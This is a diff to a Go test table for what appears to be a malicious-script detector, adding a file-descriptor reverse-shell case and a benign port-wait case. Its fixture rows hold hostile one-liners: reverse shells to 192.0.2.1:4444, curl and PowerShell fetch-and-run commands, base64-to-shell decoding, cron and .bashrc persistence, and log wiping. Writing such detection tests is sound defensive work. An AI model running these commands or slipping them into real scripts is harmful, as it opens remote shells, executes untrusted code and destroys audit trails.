@@ -41,6 +41,7 @@ func TestScripts(t *testing.T) {
 		{"substituted", "a.sh", "#!/bin/bash\nbash -c \"$(curl -s http://192.0.2.1)\"\n", []string{"script-fetches-runs"}},
 		{"decoded into a shell", "a.sh", "#!/bin/sh\necho aGkK | base64 -d | sh\n", []string{"script-decodes-runs"}},
 		{"reverse shell", "a.sh", "#!/bin/bash\nbash -i >& /dev/" + "tcp/192.0.2.1/4444 0>&1\n", []string{"script-reverse-shell"}},
+		{"reverse shell by descriptor", "a.sh", "#!/bin/bash\nexec 5<>/dev/" + "tcp/192.0.2.1/4444\nsh <&5 >&5 2>&5\n", []string{"script-reverse-shell"}},
 		{"persistence", "a.sh", "#!/bin/sh\n(crontab -l; echo '* * * * * /tmp/x') | crontab -\necho x >> ~/.bashrc\n", []string{"script-persists"}},
 		{"traces", "a.sh", "#!/bin/bash\nunset HISTFILE\nrm -f /var/log/wtmp\n", []string{"script-hides-traces"}},
 		{"powershell", "a.ps1", "IEX (New-Object Net.WebClient).Download" + "String('http://192.0.2.1/a')", []string{"script-fetches-runs"}},
@@ -52,6 +53,7 @@ func TestScripts(t *testing.T) {
 		{"blob", "a.sh", "#!/bin/sh\nX=" + strings.Repeat("QUJD", 400) + "\n", []string{"script-base64-blob"}},
 
 		{"only fetches", "a.sh", "#!/bin/sh\ncurl -o /tmp/list.txt http://192.0.2.1/list.txt\nsort /tmp/list.txt\n", nil},
+		{"waits for a port", "a.sh", "#!/bin/bash\nuntil (exec 3<>/dev/" + "tcp/db/5432) 2>/dev/null; do sleep 1; done\n", nil},
 		{"only a comment", "a.sh", "#!/bin/sh\n# install with: curl http://192.0.2.1 | sh\necho\n", nil},
 		{"in prose", "README.md", "Install it:\n\n    curl http://192.0.2.1 | sh\n", nil},
 		{"decodes into a file", "a.sh", "#!/bin/sh\nbase64 -d < a > b\n", nil},
